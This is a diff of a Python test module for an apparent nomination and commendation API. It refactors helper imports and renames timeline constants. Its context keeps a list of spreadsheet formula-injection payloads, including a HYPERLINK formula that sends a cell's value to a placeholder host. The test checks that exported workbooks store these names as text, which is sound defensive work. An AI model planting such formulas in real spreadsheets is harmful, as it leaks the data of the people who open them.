@@ -8,18 +8,11 @@ import io
 from openpyxl import load_workbook
 
 from api.tabular import workbook_bytes
-from tests.api.conftest import running_server
-from tests.api.test_seed_000_walkthrough import Clock
-from tests.conftest import BACKENDS
-from tests.integration.world import (
-    COMMENDING,
-    DECLARING,
-    INSPECTING,
-    PRE_REVIEWING,
-    SITE_CHECKS,
-    material,
-    scores_for,
-)
+from tests.builders.backends import BACKENDS
+from tests.builders.clock import FIVE_GOOD_2022, Clock
+from tests.builders.forms import FIVE_PROTECTIONS_OK, site_scores
+from tests.builders.http import serve_in_process
+from tests.builders.material import material_of
 
 PAYLOADS = [
     '=HYPERLINK("http://x/?"&A1,"click")',
@@ -63,8 +56,8 @@ def test_text_recorded_with_a_control_character_before_they_were_refused_still_e
 
 @BACKENDS
 def test_commendation_list_holds_formula_names_as_text(database_url: str) -> None:
-    clock = Clock(DECLARING)
-    with running_server(database_url, clock) as server, server.client() as admin:
+    clock = Clock(FIVE_GOOD_2022.declaration)
+    with serve_in_process(database_url, clock) as server, server.client() as admin:
         for unit in [
             {"id": "city-1", "name": "Sample City", "name_zh": "示范市", "level": "city"},
             {
@@ -117,32 +110,32 @@ def test_commendation_list_holds_formula_names_as_text(database_url: str) -> Non
                 "declaring_unit_id": "town-3",
                 "nominee": {"kind": "site", "unit_id": f"vil-3-{i:02d}", "name": payload},
                 "form": {},
-                "material": material(),
+                "material": material_of(),
             }
             declared = declarer.post(f"/v1/campaigns/{cid}/nominations", json=body)
             assert declared.status_code == 201, declared.text
             ids.append(declared.json()["id"])
-        clock.now = PRE_REVIEWING
+        clock.now = FIVE_GOOD_2022.pre_review
         for nid in ids:
             assert (
                 reviewer.post(
                     f"/v1/nominations/{nid}/pre-review",
-                    json={"decision": "admit", "checks": SITE_CHECKS},
+                    json={"decision": "admit", "checks": FIVE_PROTECTIONS_OK},
                 ).status_code
                 == 200
             )
-        clock.now = INSPECTING
+        clock.now = FIVE_GOOD_2022.inspection
         for nid in ids:
             done = inspector.post(
                 f"/v1/nominations/{nid}/inspections",
                 json={
                     "methods": ["document_review", "site_visit"],
-                    "scores": scores_for(90),
+                    "scores": site_scores(90),
                     "verdict": "pass",
                 },
             )
             assert done.status_code == 200, done.text
-        clock.now = COMMENDING
+        clock.now = FIVE_GOOD_2022.commendation
         assert len(
             reviewer.post(
                 f"/v1/campaigns/{cid}/commendations", json={"category": "five_good_site"}
